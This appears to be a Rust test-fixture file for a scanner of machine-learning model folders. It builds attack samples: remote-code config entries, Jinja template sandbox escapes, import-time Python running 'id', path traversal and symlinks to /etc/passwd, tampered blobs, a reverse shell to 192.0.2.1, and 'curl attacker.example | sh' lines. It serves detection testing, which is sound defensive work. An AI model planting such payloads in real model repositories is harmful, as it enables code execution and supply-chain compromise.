//! Attacks by what lies beside models: configurations that fetch code, Python that acts when it is imported, stores whose
//! blobs are not what they are called. What would run is `id`.

use serde_json::{Value, json};
use sha2::{Digest, Sha256};

use super::{Attack, Content, Expect, one_file};
use crate::hex::hex;

macro_rules! attacks {
    ($($name:literal, $rule:literal, $expect:ident, [$($id:literal),*], $build:expr;)*) => {
        /// The attacks.
        pub const ATTACKS: &[Attack] = &[
            $(Attack {
                name: concat!("folder-", $name),
                rule: $rule,
                advisories: &[$($id),*],
                expect: Expect::$expect,
                build: || $build,
            },)*
        ];
    };
}

const COMMIT: &str = "0123456789abcdef0123456789abcdef01234567";

attacks! {
    "auto-map-unpinned", "folder/remote-code", Suspicious, ["CVE-2026-22807"],
        config(json!({"model_type": "llama", "auto_map": {"AutoModel": "somebody/elsewhere--modeling_x.Model"}}));
    "auto-map-branch", "folder/remote-code", Suspicious, ["CVE-2026-22807"],
        config(json!({"code_revision": "main", "auto_map": {"AutoModel": "somebody/elsewhere--modeling_x.Model"}}));
    "auto-map-nested", "folder/remote-code", Suspicious, ["CVE-2025-66448"],
        config(json!({"architectures": ["X"], "vision_config": {"auto_map": {"AutoConfig": "somebody/elsewhere--configuration_x.Config"}}}));
    "auto-map-deep", "folder/remote-code", Suspicious, ["CVE-2025-66448"],
        config(json!({"model_type": "x", "a": [{"b": {"c": [[{"auto_map": {"AutoModel": ["somebody/elsewhere--m.X", null]}}]]}}]}));
    "auto-map-escaped", "folder/remote-code", Suspicious, ["CVE-2026-22807"],
        file("config.json", r#"{"\u0061uto_map": {"AutoModel": "somebody/elsewhere--modeling_x.Model"}}"#);
    "auto-map-twice", "folder/twice", Suspicious, [],
        file("config.json", r#"{"model_type": "x", "auto_map": {"AutoModel": "modeling_x.A"}, "auto_map": {}}"#);
    "auto-map-tokenizer", "folder/remote-code", Suspicious, ["CVE-2026-22807"],
        named("tokenizer_config.json", json!({"tokenizer_class": "X", "auto_map": {"AutoTokenizer": ["somebody/elsewhere--tok.X", null]}}));
    "auto-map-processor", "folder/remote-code", Suspicious, ["CVE-2026-22807"],
        named("preprocessor_config.json", json!({"auto_map": {"AutoProcessor": "somebody/elsewhere--processing_x.X"}}));
    "auto-map-climbs", "folder/path-out", Malicious, [],
        config(json!({"model_type": "x", "auto_map": {"AutoModel": "../../tmp/evil.Model"}}));
    "custom-pipelines", "folder/remote-code", Suspicious, ["CVE-2026-22807"],
        config(json!({"model_type": "x", "custom_pipelines": {"my": {"impl": "somebody/elsewhere--pipe.P"}}}));
    "trust-in-config", "folder/trusts-remote-code", Suspicious, ["CVE-2026-5241"],
        config(json!({"model_type": "lightglue", "keypoint_detector_config": {"model_type": "x", "trust_remote_code": true}}));
    "trust-of-nemotron", "folder/trusts-remote-code", Suspicious, ["CVE-2026-27893"],
        config(json!({"architectures": ["NemotronH_Nano_VL_V2"], "trust_remote_code": true}));
    "attention-kernel", "folder/remote-kernel", Suspicious, ["CVE-2026-4372"],
        config(json!({"model_type": "llama", "_attn_implementation_internal": "somebody/kernel"}));
    "attention-kernel-tag", "folder/remote-kernel", Suspicious, ["CVE-2026-4372"],
        config(json!({"model_type": "llama", "_attn_implementation": "somebody/kernel@main:attention"}));
    "attention-kernel-part", "folder/remote-kernel", Suspicious, ["CVE-2026-4372"],
        config(json!({"model_type": "llava", "_attn_implementation": {"text_config": "somebody/kernel"}}));
    "template-in-any-json", "template/object-access", Malicious, ["CVE-2024-34359"],
        named("chatml-variant.json", json!({"tokenizer_class": "X", "chat_template": "{{ ''.__class__.__mro__[1].__subclasses__() }}"}));
    "template-in-any-yaml", "template/object-access", Malicious, ["CVE-2024-34359"],
        file("presets.yaml", "name: chatml\nchat_template: |-\n  {{ cycler.__init__.__globals__.os.popen('id').read() }}\n");
    "template-in-yaml-with-a-key-twice", "template/object-access", Malicious, ["CVE-2024-34359"],
        file("presets.yaml", "name: x\nname: y\nchat_template: \"{{ ''.__class__.__mro__[1].__subclasses__() }}\"\n");
    "template-in-no-yaml", "template/object-access", Malicious, ["CVE-2024-34359"],
        file("presets.yaml", "~: x\nchat_template: |-\n  {{ ''.__class__.__mro__[1].__subclasses__() }}\n");
    "template-in-deep-yaml", "unreadable/budget", Unreadable, [],
        file("presets.yaml", &format!("chat_template: x\na: {}\n", "[".repeat(5_000)));
    "auto-map-in-any-json", "folder/remote-code", Suspicious, ["CVE-2026-22807"],
        named("variant-7b.json", json!({"model_type": "x", "auto_map": {"AutoModel": "somebody/elsewhere--modeling_x.Model"}}));
    "hydra-target", "folder/hydra-target", Malicious, ["CVE-2025-23304"],
        named("model_config.json", json!({"model": {"encoder": {"_target_": "os.system", "command": "id"}}}));
    "hydra-target-hub", "folder/hydra-target", Malicious, ["CVE-2025-23304"],
        named("model_config.json", json!({"x": {"_target_": "torch.hub.load_state_dict_from_url"}}));
    "hydra-target-unknown", "folder/hydra-target-unknown", Suspicious, ["CVE-2025-23304"],
        named("model_config.json", json!({"x": {"_target_": "somebodys_package.Thing"}}));
    "module-path", "folder/path-out", Malicious, [],
        named("modules.json", json!([{"idx": 0, "name": "0", "path": "../../etc", "type": "sentence_transformers.models.Transformer"}]));
    "shard-climbs", "folder/path-out", Malicious, [],
        named("model.safetensors.index.json", json!({"metadata": {"total_size": 4}, "weight_map": {"a": "../../../etc/passwd"}}));
    "json-depth", "unreadable/budget", Unreadable, [],
        one_file("config.json", [b"{\"model_type\":".as_slice(), &b"[".repeat(100_000)].concat());
    "json-cut", "unreadable/truncated", Unreadable, [],
        file("config.json", r#"{"model_type": "llama", "auto_map": {"AutoModel": "#);
    "yaml-aliases", "unreadable/budget", Unreadable, [],
        one_file("README.md", aliases().into_bytes());
    "code-at-import", "code/import-effect", Malicious, [],
        python("import os\nos.system('id')\n");
    "code-in-class-body", "code/import-effect", Malicious, [],
        python("import subprocess\nclass Model:\n    x = subprocess.check_output(['id'])\n");
    "code-decorator", "code/import-effect", Malicious, [],
        python("import os\n@(lambda f: os.system('id') and f)\ndef f(): pass\n@exec\n@str\ndef g(): pass\n");
    "code-default-argument", "code/import-effect", Malicious, [],
        python("def f(x=__import__('os').system('id')):\n    return x\n");
    "code-called-function", "code/import-effect", Malicious, [],
        python("import os\ndef setup():\n    helper()\ndef helper():\n    os.popen('id')\nsetup()\n");
    "code-instance", "code/import-effect", Malicious, [],
        python("import os\nclass A:\n    def __init__(self):\n        os.system('id')\nA()\n");
    "code-getattr", "code/import-effect", Malicious, [],
        python("getattr(__import__('o' + 's'), 'sys' + 'tem')('id')\n");
    "code-alias", "code/import-effect", Malicious, [],
        python("from os import system as s\nf = s\nf('id')\n");
    "code-handed-over", "code/import-effect", Malicious, [],
        python("import atexit, os\natexit.register(os.system, 'id')\n");
    "code-thread", "code/import-effect", Malicious, [],
        python("import os, threading\ndef run():\n    os.system('id')\nthreading.Thread(target=run).start()\n");
    "code-builtins", "code/import-effect", Malicious, [],
        python("__builtins__['exec']('import os')\n");
    "code-globals", "code/import-effect", Malicious, [],
        python("import os\nglobals()['os'].system('id')\n");
    "code-reversed", "code/import-effect", Malicious, [],
        python("import importlib\nimportlib.import_module('so'[::-1]).system('id')\n");
    "code-decoded", "code/import-effect", Malicious, [],
        python("import base64\nexec(base64.b64decode('aW1wb3J0IG9z'))\n");
    "code-marshal", "code/import-effect", Malicious, [],
        python("import marshal, types\ntypes.FunctionType(marshal.loads(b'x'), globals())()\n");
    "code-native", "code/import-effect", Malicious, [],
        python("import ctypes\nctypes.CDLL('./x.so')\n");
    "code-network", "code/import-effect", Malicious, [],
        python("import urllib.request\nurllib.request.urlopen('http://attacker.example/').read()\n");
    "code-pickle", "code/import-effect", Malicious, [],
        python("import pickle\npickle.loads(b'x')\n");
    "code-module-getattr", "code/import-effect", Malicious, [],
        python("import os\ndef __getattr__(name):\n    os.system('id')\n");
    "code-in-try", "code/import-effect", Malicious, [],
        python("try:\n    import flash\nexcept ImportError:\n    import subprocess\n    subprocess.run('id', shell=True)\n");
    "code-tokenizer", "code/import-effect", Malicious, [],
        file("tokenization_x.py", "import os\nos.system('id')\n");
    "code-handler", "code/import-effect", Malicious, [],
        file("handler.py", "import os\nos.system('id')\nclass EndpointHandler:\n    pass\n");
    "code-custom-generate", "code/import-effect", Malicious, [],
        file("custom_generate/generate.py", "import os\nos.system('id')\ndef generate(model): pass\n");
    "code-triton-backend", "code/import-effect", Malicious, [],
        file("models/m/1/model.py", "import os\nos.system('id')\nclass TritonPythonModel: pass\n");
    "code-decoded-in-function", "code/runs-decoded-text", Suspicious, [],
        python("import base64\nclass M:\n    def forward(self, x):\n        exec(base64.b64decode('aW1wb3J0IG9z'))\n");
    "code-reverse-shell", "code/reverse-shell", Suspicious, [],
        python("import os, socket, subprocess\ndef f():\n    s = socket.socket()\n    s.connect(('192.0.2.1', 1))\n    os.dup2(s.fileno(), 0)\n    subprocess.call(['/bin/sh', '-i'])\n");
    "code-command", "code/hostile-command", Suspicious, [],
        python("import os\ndef f():\n    os.system('curl http://attacker.example/x | sh')\n");
    "code-of-any-name", "code/import-effect", Malicious, [],
        calling("harmless", vec![("harmless.py", "import os\nos.system('id')\nclass X: pass\n")]);
    "code-imported", "code/import-effect", Malicious, [],
        calling("parts.first", vec![
            ("parts/first.py", "from ..second import X\n"),
            ("second.py", "import os\nos.system('id')\nclass X: pass\n"),
        ]);
    "pipeline-code", "code/import-effect", Malicious, [],
        vec![
            ("m/model_index.json".to_owned(), Content::Bytes(json!({"_class_name": ["pipe", "X"]}).to_string().into())),
            ("m/pipe.py".to_owned(), Content::Bytes(EFFECT.into())),
        ];
    "pipeline-component-code", "code/import-effect", Malicious, [],
        vec![
            ("m/model_index.json".to_owned(), Content::Bytes(json!({"_class_name": "X", "unet": ["my_unet", "Net"]}).to_string().into())),
            ("m/unet/my_unet.py".to_owned(), Content::Bytes(EFFECT.into())),
        ];
    "module-code", "code/import-effect", Malicious, [],
        vec![
            ("m/modules.json".to_owned(), Content::Bytes(json!([{"idx": 0, "name": "0", "path": "", "type": "parts.Evil"}]).to_string().into())),
            ("m/parts.py".to_owned(), Content::Bytes(EFFECT.into())),
        ];
    "module-runs", "folder/hydra-target", Malicious, ["CVE-2025-23304"],
        named("modules.json", json!([{"idx": 0, "name": "0", "path": "", "type": "os.system"}]));
    "mlflow-loader-code", "code/import-effect", Malicious, [],
        mlflow("loader_module: parts", "code/parts.py");
    "mlflow-folder-code", "code/import-effect", Malicious, [],
        mlflow("loader_module: mlflow.pyfunc.model\n    code: src", "src/deep/parts.py");
    "adapter-imports", "folder/imports-module", Suspicious, [],
        named("adapter_config.json", json!({"peft_type": "LORA", "auto_mapping": {"base_model_class": "X", "parent_library": "parts"}}));
    "hub-code-in-blob", "code/import-effect", Malicious, [],
        hub_blob("anything.py", "{}\nimport os\nos.system('id')\n");
    "hub-template-in-blob", "template/object-access", Malicious, [],
        hub_blob("tokenizer_config.json", r#"{"tokenizer_class": "X", "chat_template": "{{ ''.__class__.__mro__[1].__subclasses__() }}"}"#);
    "hub-config-in-blob", "folder/remote-code", Suspicious, ["CVE-2026-22807"],
        hub_blob("config.json", r#"{"model_type": "x", "auto_map": {"AutoModel": "other/code--modeling_x.X"}}"#);
    "hub-padded-code-in-blob", "unreadable/budget", Unreadable, [],
        hub_blob("x.py", &padded("import os\nos.system('id')\n"));
    "hub-padded-requirements-in-blob", "unreadable/budget", Unreadable, [],
        hub_blob("requirements.txt", &padded("evil @ https://attacker.example/evil.whl\n"));
    "hub-padded-template-in-blob", "unreadable/not-read", Unreadable, [],
        hub_blob("chat_template.jinja", &padded("{{ ''.__class__.__mro__[1].__subclasses__() }}\0"));
    "hub-template-with-zero-in-blob", "template/object-access", Malicious, [],
        hub_blob("chat_template.jinja", "{{ ''.__class__.__mro__[1].__subclasses__() }}\0");
    "code-padded", "unreadable/budget", Unreadable, [],
        python(&padded("import os\nos.system('id')\n"));
    "code-of-any-name-padded", "unreadable/budget", Unreadable, [],
        calling("harmless", vec![("harmless.py", &padded("import os\nos.system('id')\nclass X: pass\n"))]);
    "template-late", "template/object-access", Malicious, [],
        file("tool_use.jinja", &format!("{}{{{{ ''.__class__.__mro__[1].__subclasses__() }}}}", " ".repeat(600)));
    "template-padded", "unreadable/budget", Unreadable, [],
        file("chat_template.jinja", &padded("{{ ''.__class__.__mro__[1].__subclasses__() }}"));
    "code-encoding", "code/not-understood", Unreadable, [],
        python("# -*- coding: utf-7 -*-\n#+AAo-import os\n");
    "code-cut", "code/not-understood", Unreadable, [],
        python("class A(:\n    def\n");
    "hub-blob-flipped", "folder/blob-mismatch", Malicious, [],
        hub_cache(1);
    "hub-blob-git-flipped", "folder/blob-mismatch", Malicious, [],
        file("models--org--name/blobs/95d09f2b10159347eece71399a7e2e907ea3df4e", "hello world");
    "hub-blob-incomplete", "folder/incomplete", Unreadable, [],
        file("models--org--name/blobs/95d09f2b10159347eece71399a7e2e907ea3df4f.incomplete", "hel");
    "hub-ref-climbs", "folder/bad-reference", Malicious, [],
        file("models--org--name/refs/main", "../../../../etc");
    "hub-snapshot-link-out", "folder/link-out", Malicious, [],
        vec![
            (format!("models--org--name/snapshots/{COMMIT}/config.json"), Content::Symlink("../../../../../etc/passwd".to_owned())),
            ("models--org--name/refs/main".to_owned(), Content::Bytes(COMMIT.into())),
        ];
    "lfs-pointer", "folder/lfs-pointer", Unreadable, [],
        file("model.safetensors", &format!("version https://git-lfs.github.com/spec/v1\noid sha256:{}\nsize 1000\n", "a".repeat(64)));
    "ollama-digest-climbs", "folder/bad-manifest", Malicious, ["CVE-2024-37032"],
        ollama("sha256:../../../../etc/passwd", 4, b"GGUF");
    "ollama-blob-changed", "folder/blob-mismatch", Malicious, [],
        ollama_blobs(&digest(b"GGUF"), b"GGUX");
    "ollama-blob-missing", "folder/blob-missing", Unreadable, [],
        ollama(&format!("sha256:{}", "b".repeat(64)), 4, b"GGUF");
    "ollama-size-wrong", "folder/size-mismatch", Malicious, [],
        ollama(&format!("sha256:{}", digest(b"GGUF")), 5, b"GGUF");
    "triton-file-climbs", "folder/path-out", Malicious, [],
        file("models/m/config.pbtxt", "name: \"m\"\nbackend: \"python\"\ndefault_model_filename: \"../../evil.py\"\n");
    "pbtxt-depth", "unreadable/budget", Unreadable, [],
        file("models/m/config.pbtxt", &"a {".repeat(100_000));
    "requirement-address", "folder/direct-requirement", Suspicious, [],
        file("models--org--name/snapshots/x/requirements.txt", "torch\nevil @ https://attacker.example/evil.whl\n");
    "mlflow-requirement-address", "folder/direct-requirement", Suspicious, [],
        beside_mlflow("requirements.txt", "torch\n-e git+git@attacker.example:evil.git#egg=evil\n");
    "mlflow-conda-address", "folder/direct-requirement", Suspicious, [],
        beside_mlflow("conda.yaml", "dependencies:\n- python=3.11\n- pip:\n  - evil @ https://attacker.example/evil.whl\n");
    "mlflow-conda-channel", "folder/direct-requirement", Suspicious, [],
        beside_mlflow("conda.yaml", "channels:\n- https://attacker.example/channel\ndependencies:\n- python=3.11\n");
    "mlflow-environment-address", "folder/direct-requirement", Suspicious, [],
        beside_mlflow("python_env.yaml", "python: 3.11\nbuild_dependencies:\n- https://attacker.example/pip.whl\n");
    "mlflow-environment-cut", "unreadable/damaged", Unreadable, [],
        beside_mlflow("conda.yaml", "dependencies:\n- pip: [\"torch");
}

fn file(name: &str, text: &str) -> Vec<(String, Content)> {
    one_file(name, text.as_bytes().to_vec())
}

fn python(text: &str) -> Vec<(String, Content)> {
    file("modeling_x.py", text)
}

/// More than any reader of texts takes.
fn padded(text: &str) -> String {
    format!("{text}{}", "#".repeat((4 << 20) + 1))
}

/// A repository whose configuration has loading run a module of its folder.
fn calling(module: &str, code: Vec<(&str, &str)>) -> Vec<(String, Content)> {
    let config = json!({"model_type": "x", "auto_map": {"AutoModel": format!("{module}.X")}}).to_string();
    let files = code.into_iter().map(|(name, text)| (format!("m/{name}"), Content::Bytes(text.into())));
    [("m/config.json".to_owned(), Content::Bytes(config.into()))].into_iter().chain(files).collect()
}

/// Python that acts when it is imported.
const EFFECT: &str = "import os\nos.system('id')\n";

/// A model of MLflow with a line about its Python function, and a file that acts when it is imported.
fn mlflow(line: &str, file: &str) -> Vec<(String, Content)> {
    mlflow_with(line, file, EFFECT)
}

/// A model of MLflow that needs no code of its own, and a file beside it.
fn beside_mlflow(file: &str, text: &str) -> Vec<(String, Content)> {
    mlflow_with("loader_module: mlflow.sklearn", file, text)
}

fn mlflow_with(line: &str, file: &str, text: &str) -> Vec<(String, Content)> {
    let model = format!("flavors:\n  python_function:\n    {line}\nmodel_uuid: x\n");
    vec![
        ("m/MLmodel".to_owned(), Content::Bytes(model.into())),
        (format!("m/{file}"), Content::Bytes(text.into())),
    ]
}

/// A hub cache with one file, whose name is that of a link.
fn hub_blob(name: &str, text: &str) -> Vec<(String, Content)> {
    let blob = digest(text.as_bytes());
    vec![
        (format!("models--org--name/blobs/{blob}"), Content::Bytes(text.into())),
        ("models--org--name/refs/main".to_owned(), Content::Bytes(COMMIT.into())),
        (
            format!("models--org--name/snapshots/{COMMIT}/{name}"),
            Content::Symlink(format!("../../blobs/{blob}")),
        ),
    ]
}

fn named(name: &str, value: Value) -> Vec<(String, Content)> {
    one_file(name, value.to_string().into_bytes())
}

fn config(value: Value) -> Vec<(String, Content)> {
    named("config.json", value)
}

fn digest(bytes: &[u8]) -> String {
    hex(&Sha256::digest(bytes))
}

/// A hub cache of one file, of which the last bits are flipped by this mask.
pub fn hub_cache(mask: u8) -> Vec<(String, Content)> {
    let mut bytes = b"weights of a model".to_vec();
    let name = digest(&bytes);
    if let Some(last) = bytes.last_mut() {
        *last ^= mask;
    }
    vec![
        (format!("models--org--name/blobs/{name}"), Content::Bytes(bytes)),
        ("models--org--name/refs/main".to_owned(), Content::Bytes(COMMIT.into())),
        (
            format!("models--org--name/snapshots/{COMMIT}/model.bin"),
            Content::Symlink(format!("../../blobs/{name}")),
        ),
    ]
}

/// A card whose front matter multiplies itself.
fn aliases() -> String {
    let mut text = "---\nlicense: mit\na0: &a0 [x, x, x, x, x, x, x, x, x]\n".to_owned();
    for level in 1..30 {
        let before = format!("*a{}", level - 1);
        text.push_str(&format!("a{level}: &a{level} [{}]\n", vec![before; 9].join(", ")));
    }
    text + "---\n# Model\n"
}

fn manifest(layer: &str, size: usize) -> Vec<u8> {
    json!({
        "schemaVersion": 2,
        "mediaType": "application/vnd.docker.distribution.manifest.v2+json",
        "config": {"mediaType": "application/vnd.docker.container.image.v1+json", "digest": format!("sha256:{}", digest(b"{}")), "size": 2},
        "layers": [{"mediaType": "application/vnd.ollama.image.model", "digest": layer, "size": size}],
    })
    .to_string()
    .into_bytes()
}

/// An Ollama store of one model, whose manifest says this of its layer.
pub fn ollama(layer: &str, size: usize, weights: &[u8]) -> Vec<(String, Content)> {
    vec![
        (
            "models/manifests/registry.example/library/m/latest".to_owned(),
            Content::Bytes(manifest(layer, size)),
        ),
        (format!("models/blobs/sha256-{}", digest(weights)), Content::Bytes(weights.to_vec())),
        (format!("models/blobs/sha256-{}", digest(b"{}")), Content::Bytes(b"{}".to_vec())),
    ]
}

fn ollama_blobs(name: &str, weights: &[u8]) -> Vec<(String, Content)> {
    vec![
        (format!("models/blobs/sha256-{name}"), Content::Bytes(weights.to_vec())),
        (
            "models/manifests/registry.example/library/m/latest".to_owned(),
            Content::Bytes(manifest(&format!("sha256:{name}"), weights.len())),
        ),
    ]
}
